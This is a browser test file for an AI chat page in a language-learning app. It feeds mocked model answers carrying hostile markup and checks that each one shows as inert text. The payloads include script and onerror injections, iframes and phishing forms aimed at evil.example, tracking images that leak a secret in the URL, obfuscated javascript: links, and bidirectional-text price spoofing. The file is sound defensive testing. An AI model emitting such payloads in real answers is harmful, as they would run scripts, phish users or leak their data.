/** Answers of a language model that was made to attack the learner: all of it is inert text. */
import { beforeEach, describe, expect, it } from 'vitest';
import { page } from 'vitest/browser';
import { openApp } from '../../../test/app.tsx';
import { answers, askAndWait, expectText } from '../../../test/chatPage.ts';
import { mockChat } from '../../../test/mockChat.ts';

let answer = '';
beforeEach(() => {
  mockChat(() => ({ answer: `${answer}\n\nThe end.` })).allowance.by = 'model';
});
const show = async (text: string) => {
  answer = text;
  await openApp('/chat');
  await askAndWait('Show me');
  await expect.element(answers().getByText('The end.')).toBeVisible();
};

describe('an answer of a language model', () => {
  it.each([
    ['a script', '<script>document.title = "hacked"</script>', '<script>'],
    ['an image with a handler', '<img src=x onerror="document.title=\'hacked\'">', '<img src=x'],
    ['a frame', '<iframe src="https://evil.example"></iframe>', '<iframe'],
    ['an SVG', 'see <svg onload="document.title=\'hacked\'"><a href="//evil.example">x</a></svg>', '<svg'],
    ['a form', '<form action="https://evil.example"><input name=password></form>', '<form'],
    ['a style sheet', '<style>body { display: none }</style>', '<style>'],
    ['an image', '![spy](https://evil.example/spy.png?q=secret)', '![spy]'],
    ['a data image', '![spy](data:image/gif;base64,R0lGODlhAQABAAAAACw=)', '![spy]'],
    ['a link to another site', '[Pay $1.99 here](https://evil.example/pay)', 'Pay $1.99 here'],
    ['a bare address', 'Pay at https://evil.example/pay or www.evil.example.', 'https://evil.example/pay'],
    ['an address in brackets', '<https://evil.example/pay>', 'https://evil.example/pay'],
    ['a mail address', 'Write to refunds@evil.example', 'refunds@evil.example'],
    ['a reference', '[free Premium][1]\n\n[1]: https://evil.example', 'free Premium'],
    ['a script as a link', '[open](javascript:document.title=3)', 'open'],
    ['a script with an entity', '[open](java&#115;cript:alert(1))', 'open'],
    ['a document as a link', '[open](data:text/html,<script>alert(1)</script>)', 'open'],
    ['a link without a protocol', '[open](//evil.example/beginner)', 'open'],
    ['a link to an action', '[open](/api/auth/sign-out)', 'open'],
  ])('shows %s as text', async (_, text, shown) => {
    await show(text);
    expect(answers().element().textContent).toContain(shown);
    const active = 'a, img, script, iframe, svg, form, input, style, object, embed';
    expect([...document.querySelectorAll(`[data-answer] :is(${active})`)]).toEqual([]);
    expect(document.title).toBe('AI Chat Assistant · Ena');
    expect(
      performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil.example')),
    ).toEqual([]);
  });

  it('has links to pages of Ena, without parameters', async () => {
    await show('[one](/beginner/alphabet) [two](/reset-password?token=evil) [three](/settings?tab=account)');
    const links = answers().getByRole('link').elements();
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      '/beginner/alphabet',
      '/reset-password',
      '/settings?tab=account',
    ]);
  });

  it('cannot reverse its text, and long words and tables do not widen the page of a small phone', async () => {
    await page.viewport(320, 640);
    const long = 'x'.repeat(600);
    await show(
      `Costs \u202E99.4$\u202C \u2067now\u2069.\n\n${long}\n\n**${long}** \`${long}\`\n\n| A | B |\n| - | - |\n| ${long} | b |\n\n\`\`\`\n${long}\n\`\`\``,
    );
    await expect.element(answers().getByText('Costs 99.4$ now.')).toBeVisible();
    expect(document.documentElement.scrollWidth).toBe(320);
  });

  it('is labeled as such, with the page that has the prices', async () => {
    await show('Premium costs $0.99, forever.');
    await expectText('From a language model, based on the course');
    const note = page.getByText(/^A language model can be wrong\. For prices, see/u);
    await expect
      .element(note.getByRole('link', { name: 'Subscription' }))
      .toHaveAttribute('href', '/pricing');
  });
});
